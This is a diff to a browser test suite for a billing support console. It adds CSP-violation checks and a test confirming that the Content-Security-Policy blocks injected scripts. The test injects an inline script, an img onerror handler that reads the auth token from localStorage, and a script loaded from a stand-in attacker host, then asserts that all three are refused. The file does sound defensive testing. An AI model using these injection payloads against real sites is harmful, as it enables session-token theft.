@@ -11,7 +11,7 @@ import { call, createClient } from "@tollgate/grpc-kit";
 import { commonV1, entitlementsV1, ledgerV1, type pricingV1 } from "@tollgate/proto";
 import { createTestDatabase, eventually, type TestDatabase } from "@tollgate/testing";
 import { replies, seedStarter } from "./fixtures.js";
-import { screenshotDir, signInPage, startConsole, type ConsoleUnderTest } from "./browser.js";
+import { cspViolations, screenshotDir, signInPage, startConsole, type ConsoleUnderTest } from "./browser.js";
 import { startPlatform, type Platform } from "./platform.js";
 
 let db: TestDatabase;
@@ -319,6 +319,37 @@ describe("support console in Chromium", () => {
     await page.goto(`${gateway.url}/#/tollgate-notifications`);
     await page.waitForLoadState("networkidle");
     await page.screenshot({ path: `${screenshotDir}/notifications.png`, fullPage: true });
+    // Everything above ran under the gateway's Content-Security-Policy, and nothing of the console's own was refused.
+    expect(cspViolations(page)).toEqual([]);
+    await page.close();
+  });
+
+  it("does not run a script injected into the console's page (its Content-Security-Policy), so the token in localStorage stays unread", async () => {
+    const page = await signIn("ada", "admin-pass", "/#/tollgate-accounts/acme/show/overview");
+    await page.getByTestId("overview-credits").waitFor();
+    expect(cspViolations(page)).toEqual([]);
+    // What a stored value rendered as HTML could do: an inline script, an inline event handler, a script from another origin.
+    await page.evaluate(`
+      const inline = document.createElement("script");
+      inline.textContent = "window.__stolen = localStorage.getItem('tollgate.token')";
+      document.body.append(inline);
+      const image = document.createElement("img");
+      image.setAttribute("src", "data:,");
+      image.setAttribute("onerror", "window.__stolen = localStorage.getItem('tollgate.token')");
+      document.body.append(image);
+      const remote = document.createElement("script");
+      remote.src = "https://attacker.example/steal.js";
+      document.body.append(remote);
+    `);
+    await eventually(async () => (cspViolations(page).length >= 3 ? true : undefined), 10_000, "the three injected scripts refused");
+    expect(await page.evaluate(() => (globalThis as unknown as { __stolen?: string }).__stolen)).toBeUndefined();
+    // The token is there to steal: only the policy stopped it.
+    expect(await page.evaluate(() => localStorage.getItem("tollgate.token"))).toMatch(/^ey/);
+    expect(cspViolations(page)).toEqual([
+      expect.stringContaining("script-src 'self'"),
+      expect.stringContaining("script-src 'self'"),
+      expect.stringContaining("script-src 'self'"),
+    ]);
     await page.close();
   });
 
@@ -336,6 +367,7 @@ describe("support console in Chromium", () => {
     await page.goto(`${gateway.url}/#/tollgate-accounts/acme/show/models`);
     await page.getByTestId("top-model").getByText("gpt-4o").first().waitFor();
     await page.screenshot({ path: `${screenshotDir}/account-models.png`, fullPage: true });
+    expect(cspViolations(page)).toEqual([]);
     await page.close();
   });
 
